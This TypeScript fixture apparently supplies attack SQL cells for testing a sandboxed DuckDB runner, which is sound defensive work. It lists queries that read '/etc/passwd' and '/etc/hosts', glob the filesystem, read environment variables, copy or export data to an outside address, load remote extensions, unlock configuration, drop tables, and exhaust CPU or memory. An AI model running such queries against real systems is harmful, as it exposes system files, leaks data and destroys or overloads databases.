import { addressOf, type StrangeCell } from './stranger';

const url = (name: string): string => addressOf(`sql-${name}`);

const queries = {
	read_csv: `SELECT * FROM read_csv('${url('read_csv')}x.csv')`,
	read_text: "SELECT * FROM read_text('/etc/passwd')",
	read_blob: `SELECT * FROM read_blob('${url('read_blob')}')`,
	parquet: `SELECT * FROM '${url('parquet')}x.parquet'`,
	glob: "SELECT * FROM glob('/**')",
	copy_to: `COPY answers TO '${url('copy_to')}x.csv'`,
	copy_from: `COPY answers FROM '${url('copy_from')}x.csv'`,
	attach: `ATTACH '${url('attach')}x.db' AS theirs`,
	install: 'INSTALL httpfs',
	load: `LOAD '${url('load')}httpfs.wasm'`,
	autoload: `SELECT * FROM read_json('${url('autoload')}x.json')`,
	pragma: 'PRAGMA database_list',
	set: 'SET enable_external_access = true',
	unlock: "SET lock_configuration = false; SELECT * FROM read_text('/etc/hosts')",
	export: `EXPORT DATABASE '${url('export')}'`,
	several: 'SELECT 1; DROP TABLE answers',
	delete: 'DELETE FROM answers',
	drop: 'DROP VIEW answers',
	returning: 'INSERT INTO answers DEFAULT VALUES RETURNING *',
	settings: 'SELECT * FROM duckdb_settings()',
	getenv: "SELECT getenv('HOME')",
	macro: 'CREATE MACRO f(x) AS x',
	pivot: 'PIVOT answers ON 1',
	deep: `SELECT ${'('.repeat(5_000)}1${')'.repeat(5_000)}`
};

/** Each would go on for hours, or take all memory there is. */
const endless = {
	recursive:
		'WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t) SELECT count(*) FROM t',
	cross:
		'SELECT count(*) FROM range(100000) a, range(100000) b, range(100000) c WHERE a.range + b.range = c.range + 1',
	memory: "SELECT repeat('x', 2000000000) || i FROM range(1000) t(i)",
	longer:
		'SELECT sum(length(a.range::VARCHAR || b.range::VARCHAR)) FROM range(1000000) a, range(1000000) b'
};

const cellsOf = (attacks: Readonly<Record<string, string>>): StrangeCell[] =>
	Object.entries(attacks).map(([name, code]) => ({
		id: `sql_${name}`,
		title: `SQL ${name}`,
		kind: 'sql',
		code
	}));

export const queryAttacks = cellsOf(queries);
export const endlessQueries = cellsOf(endless);
